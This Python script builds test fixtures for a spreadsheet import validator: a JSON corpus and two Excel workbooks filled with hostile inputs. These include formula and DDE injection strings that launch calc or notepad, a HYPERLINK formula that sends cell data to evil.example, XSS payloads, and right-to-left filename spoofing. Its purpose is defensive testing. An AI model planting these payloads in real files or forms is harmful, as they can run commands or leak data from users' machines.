"""Write ``fixtures/hostile-content/``: text that must never run, inject or hide in our files.

* ``strings.json`` – the corpus by kind: formula-like text (``=``, ``+``, ``-``, ``@``, tab and
  carriage return starts, DDE payloads), HTML and script tags, right-to-left overrides,
  zero-width characters, a 10,000-character cell, emoji, NUL and other control characters;
* ``accepted.xlsx`` – a workbook the validator accepts with warnings only: formula-like text in
  every free-text column of every sheet, HTML and script tags, right-to-left overrides,
  zero-width joiners and emoji (the values an import sends to the API);
* ``refused.xlsx`` – the same sheets with control characters and 10,000-character cells, which
  the validator refuses (``cell-forbidden-character``, ``cell-too-long``).

Both workbooks hold one customer with a calling package, one location, two subscribers and one
Setup Assist request (valid for a submission on 2027-03-01). Control characters are stored the
way Excel stores them (``_x0000_``). Run ``python scripts/make_hostile_content.py [-o FOLDER]``;
the output is reproducible byte for byte.
"""

from __future__ import annotations

import argparse
import datetime as dt
import json
from pathlib import Path
from typing import Any

import xlsxwriter  # type: ignore[import-untyped]

from bulk.schema import SHEETS, TEMPLATE_VERSION

ROOT = Path(__file__).resolve().parents[1]
OUTPUT = ROOT / "fixtures" / "hostile-content"
AS_OF = dt.date(2027, 3, 1)
FIXED = dt.datetime(2026, 1, 1)

STRINGS: dict[str, list[str]] = {
    "formula": [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C notepad'!'A1'",
        "'=1+1",
    ],
    "html": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        '<a href="javascript:alert(1)">x</a>',
        "&lt;b&gt; &amp; {{ 7*7 }}",
    ],
    "bidi": ["Invoice\u202egnp.exe", "\u2067Acme\u2069 Ltd", "Nina\u200f"],
    "zero_width": ["Ac\u200bme", "Jo\u200dhn", "Bob\ufeff"],
    "long": ["A" * 10_000],
    "emoji": ["Pizza \U0001f355 Co", "\U0001f469\u200d\U0001f4bb Dev Team", "\U0001f1fa\U0001f1f8"],
    "control": ["Acme\x00Robotics", "\x1b[31mred\x1b[0m", "Bell\x07", "Del\x7fete", "Nul\x00"],
}
"""The corpus by kind. Tests write every string through every output."""

CUSTOMER = "@SUM(1+1)*cmd|' /C calc'!A0"
LOCATION = "@HQ <img src=x onerror=alert(1)>"


def accepted_rows() -> dict[str, list[dict[str, Any]]]:
    """Rows the validator accepts with warnings: formula-like text in every free-text column."""
    return {
        "Customers": [
            {
                "external_id": CUSTOMER,
                "name": '=HYPERLINK("http://evil.example/?"&A1,"Click") \U0001f355',
                "primary_email": "=2+3@sec.example.com",  # one email, one identity
                "address_line1": "+1+1 Main St \u202egnp.exe",
                "address_line2": "-2+3+cmd|' /C calc'!A0",
                "city": "@Spring\u200dfield",
                "state": "IL",
                "postal_code": "62701",
                "country": "US",
                "packages": "webex_calling, webex_meetings",
            }
        ],
        "Locations": [
            {
                "customer_external_id": CUSTOMER,
                "name": LOCATION,
                "address_line1": "=1+1 <script>alert(1)</script>",
                "address_line2": "+Suite\u200b 4 \U0001f469\u200d\U0001f4bb",
                "city": "-Springfield",
                "state": "IL",
                "postal_code": "62701",
                "country": "US",
                "timezone": "America/Chicago",
                "language": "en_US",
                "emergency_location_id": "@ELIN",
            }
        ],
        "Subscribers": [
            {
                "customer_external_id": CUSTOMER,
                "email": f"{local}@sec.example.com",
                "first_name": first,
                "last_name": last,
                "package": "webex_calling",
                "location_name": LOCATION,
                "extension": f"10{n}",
            }
            for n, (local, first, last) in enumerate(
                [
                    ("=1+2", "=1+1", "\u2067Nina\u2069 <b>Lee</b>"),
                    ("+tag", "@Ann", '-Lee "><svg onload=alert(1)>'),
                ]
            )
        ],
        "Setup Assist": [
            {
                "customer_external_id": CUSTOMER,
                "location_name": LOCATION,
                "requested_completion_date": AS_OF + dt.timedelta(days=60),
                "contact_name": "+Bo <script>alert(1)</script>",
                "contact_email": "-bo@sec.example.com",
                "network_check_done": "yes",
                "notes": "=cmd|' /C notepad'!'A1' \U0001f355 " + "&lt;b&gt; {{ 7*7 }}",
            }
        ],
    }


def refused_rows() -> dict[str, list[dict[str, Any]]]:
    """The accepted rows with control characters and 10,000-character cells."""
    rows = accepted_rows()
    long = STRINGS["long"][0]
    rows["Customers"][0]["name"] = "Acme\x00Robotics"
    rows["Customers"][0]["address_line2"] = long
    rows["Locations"][0]["address_line2"] = "\x1b[31mred\x1b[0m"
    rows["Subscribers"][0]["first_name"] = "Bell\x07"
    rows["Subscribers"][1]["last_name"] = long
    rows["Setup Assist"][0]["notes"] = "Del\x7fete " + long
    return rows


def write_book(path: Path, rows: dict[str, list[dict[str, Any]]]) -> None:
    """The four template sheets with these rows; text is always a string cell."""
    book = xlsxwriter.Workbook(
        str(path), {"strings_to_numbers": False, "strings_to_formulas": False}
    )
    book.set_properties({"created": FIXED})
    date_format = book.add_format({"num_format": "yyyy-mm-dd"})
    for sheet in SHEETS:
        worksheet = book.add_worksheet(sheet.name)
        for col, column in enumerate(sheet.columns):
            worksheet.write_string(0, col, column.template_header)
        for number, row in enumerate(rows.get(sheet.name, ()), start=1):
            for col, column in enumerate(sheet.columns):
                value = row.get(column.key)
                if isinstance(value, dt.date):
                    worksheet.write_datetime(number, col, value, date_format)
                elif value:
                    worksheet.write_string(number, col, value)
    book.define_name("TemplateVersion", f'="{TEMPLATE_VERSION}"')
    book.close()


def main(argv: list[str] | None = None) -> None:
    """Write the corpus and both workbooks."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("-o", "--output", type=Path, default=OUTPUT)
    args = parser.parse_args(argv)
    args.output.mkdir(parents=True, exist_ok=True)
    text = json.dumps(STRINGS, indent=2, ensure_ascii=True) + "\n"
    (args.output / "strings.json").write_text(text, encoding="utf-8")
    write_book(args.output / "accepted.xlsx", accepted_rows())
    write_book(args.output / "refused.xlsx", refused_rows())


if __name__ == "__main__":
    main()
